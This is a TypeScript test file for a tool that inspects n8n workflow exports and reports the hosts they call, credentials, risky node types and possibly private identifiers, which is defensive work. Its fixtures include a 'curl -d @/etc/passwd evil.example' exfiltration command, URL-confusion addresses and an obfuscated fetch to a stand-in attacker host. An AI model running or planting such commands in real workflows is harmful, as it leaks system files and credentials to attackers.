import { expect } from 'chai';
import { factsOf as factsOfWorkflow } from '../../../adapters/file-inspection/n8n/facts.js';
import type { Workflow } from '../../../adapters/file-inspection/n8n/workflow.js';
import type { FileFacts } from '../../../domain/file-facts.js';
import { EXPORTED, inspect, workflowOf } from './workflow.js';

const BASE = 'n8n-nodes-base.';
const httpRequest = (parameters: object, credentials?: object) => ({
  type: `${BASE}httpRequest`,
  parameters,
  ...(credentials && { credentials }),
});

async function factsOf(content: unknown): Promise<FileFacts> {
  return (await inspect(content)).facts ?? expect.fail('a file without facts');
}

describe('The facts of a workflow of n8n', () => {
  it('are all of what an export does', async () => {
    expect(await factsOf(EXPORTED)).to.deep.equal({
      needs: ['Google Sheets'],
      hosts: [],
      credentials: [],
      abilities: [{ kind: 'public-trigger', count: 1 }],
      communityPackages: [],
      brokenConnections: 0,
      unconnectedSteps: 0,
      remaining: { documents: ['1AbCdEfGhIjKlMnOpQrStUvWxYz'], hosts: [], emails: [] },
      isComplete: true,
    });
  });

  for (const [url, host] of [
    ['https://api.example.com/v1?a=b', 'api.example.com'],
    ['HTTP://API.Example.com:8080', 'api.example.com'],
    ['api.example.com/v1', 'api.example.com'],
    ['=https://api.example.com/{{ $json.id }}', 'api.example.com'],
    ['=https://api.example.com?{{ $json.id }}', 'api.example.com'],
    ['=https://{{ $json.host }}/v1', 'computed'],
    ['={{ "https://api.example.com/" + $json.id }}', 'computed'],
    ['=https://api.example.com{{ $json.rest }}', 'computed'],
    ['=https://slack.com:{{ $json.a }}@evil.example/', 'computed'],
    ['https://slack.com@evil.example/', 'evil.example'],
    ['https://slack.com\\@evil.example/', 'slack.com'],
    ['//evil.example/x', 'evil.example'],
    ['https://bücher.example/', 'xn--bcher-kva.example'],
    ['https://exa mple/', 'computed'],
    [`https://${'a'.repeat(260)}.example/`, 'computed'],
    ['http://[::1]/', '[::1]'],
    ['https:/evil.example/x', 'evil.example'],
    ['https:evil.example', 'evil.example'],
    ['localhost:5678/x', 'localhost'],
    ['/relative', undefined],
    ['', undefined],
    ['=', undefined],
  ] as const)
    it(`name ${host ?? 'no host'} for the address ${url.slice(0, 50)}`, async () => {
      const { hosts } = await factsOf(workflowOf(httpRequest({ url })));
      expect(hosts).to.deep.equal(host === undefined ? [] : [host]);
    });

  it('name each credential with each host to which its step sends it', async () => {
    const { credentials } = await factsOf(
      workflowOf(
        httpRequest({ url: 'https://slack.com/api' }, { slackApi: { id: '1' } }),
        httpRequest({ url: 'https://evil.example', nodeCredentialType: 'slackApi' }),
        httpRequest({ url: '={{ $json.url }}', genericAuthType: 'httpHeaderAuth' }),
        { type: `${BASE}slack`, parameters: { text: 'see https://ignored.example' }, credentials: { slackApi: {} } },
        {
          type: '@n8n/n8n-nodes-langchain.lmChatOpenAi',
          parameters: { options: { baseURL: 'https://other.example/v1' } },
          credentials: { openAiApi: {} },
        },
      ),
    );
    expect(credentials).to.deep.equal([
      { type: 'httpHeaderAuth', host: 'computed' },
      { type: 'openAiApi', host: 'other.example' },
      { type: 'slackApi', host: 'evil.example' },
      { type: 'slackApi', host: 'slack.com' },
    ]);
  });

  for (const [kind, text, ...named] of [
    ['code', 'this.helpers.httpRequest({ url })'],
    ['code', 'await this.helpers.request(options)'],
    ['code', 'axios.get(url)'],
    ['code', 'fetch("https://slack.com"); fetch(atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGU="))', 'slack.com'],
    ['executeCommand', 'curl https://b.example', 'b.example'],
    ['executeCommand', 'curl -d @/etc/passwd evil.example'],
    ['ssh', 'curl -d @/etc/passwd evil.example'],
  ] as const)
    it(`name a computed host for ${kind} of ${text}`, async () => {
      const { hosts } = await factsOf(workflowOf({ type: BASE + kind, parameters: { text } }));
      expect(hosts).to.deep.equal([...named, 'computed'].sort());
    });

  it('name the host of an address with letters such as ë, also after thousands of others', async () => {
    const nodes = Array.from({ length: 20_000 }, () => httpRequest({ url: 'https://zoë.example' }));
    expect((await factsOfWorkflow(workflowOf(...nodes) as Workflow, '')).hosts).to.deep.equal(['xn--zo-ija.example']);
  });

  it('name the hosts in code', async () => {
    const facts = await factsOf(
      workflowOf(
        { type: `${BASE}code`, parameters: { jsCode: 'await fetch("https://a.example/x")' } },
        { type: `${BASE}code`, parameters: { jsCode: 'const a = "https://b.example";\nawait fetch(a);' } },
        { type: `${BASE}set`, parameters: { url: 'https://c.example', value: 'fetch(' } },
        { type: `${BASE}googleSheets`, parameters: { columns: { value: { url: 'https://d.example' } } } },
        { type: `${BASE}stickyNote`, parameters: { content: 'https://e.example' } },
      ),
    );
    expect(facts.hosts).to.deep.equal(['a.example', 'b.example']);
    expect(facts.remaining.hosts).to.deep.equal(['a', 'b', 'c', 'd', 'e'].map((one) => `${one}.example`));
  });

  for (const [kind, nodes] of Object.entries({
    code: [{ type: `${BASE}code` }, { type: `${BASE}function` }, { type: '@n8n/n8n-nodes-langchain.toolCode' }],
    commands: [{ type: `${BASE}executeCommand` }, { type: `${BASE}executeCommandTool` }],
    ssh: [{ type: `${BASE}ssh` }],
    'file-access': [{ type: `${BASE}readWriteFile` }, { type: `${BASE}readBinaryFiles` }],
    'sub-workflow': [{ type: `${BASE}executeWorkflow` }, { type: '@n8n/n8n-nodes-langchain.toolWorkflow' }],
    'public-trigger': [
      { type: `${BASE}webhook` },
      { type: `${BASE}formTrigger` },
      { type: '@n8n/n8n-nodes-langchain.chatTrigger', parameters: { public: true } },
    ],
    environment: [{ type: `${BASE}set`, parameters: { a: [{ b: '={{ $env.HOME }}' }] } }],
  }))
    it(`count the steps with the ability ${kind}`, async () => {
      const harmless = [
        { type: `${BASE}noOp` },
        { type: '@n8n/n8n-nodes-langchain.chatTrigger', parameters: { public: false } },
        { type: `${BASE}stickyNote`, parameters: { content: '$env' } },
      ];
      const { abilities } = await factsOf(workflowOf(...nodes, ...harmless));
      expect(abilities).to.deep.equal([{ kind, count: nodes.length }]);
    });

  it('name the services that it needs, and packages of the community', async () => {
    const types = ['slack', 'slackTool', 'slackTrigger', 'googleSheets', 'mySql', 'if', 'httpRequest', 'awsS3'];
    const own = types.map((kind) => ({ type: BASE + kind }));
    const others = [
      'lmChatOpenAi',
      'lmOpenAi',
      'lmOpenHuggingFaceInference',
      'embeddingsOpenAi',
      'vectorStorePinecone',
      'agent',
      'memoryPostgresChat',
    ].map((kind) => ({ type: `@n8n/n8n-nodes-langchain.${kind}` }));
    const facts = await factsOf(
      workflowOf(
        ...own,
        ...others,
        httpRequest({}, { notionApi: {}, httpBasicAuth: {} }),
        { type: 'n8n-nodes-mcp.mcpClientTool' },
        { type: '@ada/n8n-nodes-x.y' },
        { type: 'odd' },
        { type: '' },
      ),
    );
    const services = [
      'AWS S3',
      'Google Sheets',
      'Hugging Face Inference',
      'MySQL',
      'Notion',
      'Odd',
      'OpenAI',
      'Pinecone',
    ];
    expect(facts.needs).to.deep.equal([...services, 'PostgreSQL', 'Slack', 'Y']);
    expect(facts.communityPackages).to.deep.equal(['@ada/n8n-nodes-x', 'n8n-nodes-mcp', 'odd']);
  });

  it('count a connection to no name as broken, although a node has no name', async () => {
    const nodes = [{ name: 'a', type: 'x.y' }, { type: 'x.y' }];
    const facts = await factsOf({ nodes, connections: { a: { main: [[{}]] } } });
    expect([facts.brokenConnections, facts.unconnectedSteps]).to.deep.equal([1, 2]);
  });

  it('find the hosts of addresses in sentences, in Markdown, with _ or of IPv6', async () => {
    const text =
      'See https://a.example. **https://b.example** https://c.example! http://my_service:5678/x http://[fd00::1]/ ' +
      'http://u:{{ $json.p }}@h:80 [https://d.example][12] https://e.example[12] http://[1]';
    const { remaining } = await factsOf(workflowOf({ notes: text }));
    const letters = ['a', 'b', 'c', 'd', 'e'].map((one) => `${one}.example`);
    expect(remaining.hosts).to.deep.equal(['[fd00::1]', ...letters, 'my_service', 'u']);
  });

  it('count connections that name no node, and nodes without a connection', async () => {
    const nodes = ['a', 'b', 'c', 'd', 'constructor'].map((name) => ({ name, id: `id-${name}`, type: 'x.y' }));
    const note = { name: 'note', type: `${BASE}stickyNote` };
    const to = (...names: readonly string[]) => ({
      main: [null, names.map((node) => ({ node, type: 'main', index: 0 }))],
    });
    const connections = { a: to('b', 'id-c'), 'id-c': to('d'), toString: to('a'), d: null, note: to('note') };
    const facts = await factsOf({ nodes: [...nodes, note], connections });
    expect([facts.brokenConnections, facts.unconnectedSteps]).to.deep.equal([4, 3]);
    const single = await factsOf({ nodes: [nodes[0], note], connections: {} });
    expect([single.brokenConnections, single.unconnectedSteps]).to.deep.equal([0, 0]);
  });

  it('list what may be private: documents, hosts, and e-mail addresses', async () => {
    const { remaining } = await factsOf(
      workflowOf({
        parameters: {
          sheetId: '1AbCdEfGhIjKlMnOp',
          documentId: '={{ $json.id }}',
          channelId: { __rl: true, mode: 'id', value: 'C01ABCDEF' },
          limit: 'fifty-five',
          text: 'Mail Ada@Example.com or see https://docs.google.com/document/d/9ZyXwVuTsRqPoNmLkJiHg/edit. logo@2x.png',
        },
        notes: 'http://n8n.internal:5678/x, bob@corp.example',
      }),
    );
    expect(remaining).to.deep.equal({
      documents: ['1AbCdEfGhIjKlMnOp', '9ZyXwVuTsRqPoNmLkJiHg', 'C01ABCDEF'],
      hosts: ['docs.google.com', 'n8n.internal'],
      emails: ['ada@example.com', 'bob@corp.example', 'logo@2x.png'],
    });
  });

  it('say when a list has more than its 50', async () => {
    const nodes = (count: number) =>
      Array.from({ length: count }, (_, n) => httpRequest({ url: `https://host-${n}.example` }));
    expect((await factsOf(workflowOf(...nodes(50)))).isComplete).to.equal(true);
    const facts = await factsOf(workflowOf(...nodes(51)));
    expect([facts.isComplete, facts.hosts.length]).to.deep.equal([false, 50]);
  });
});
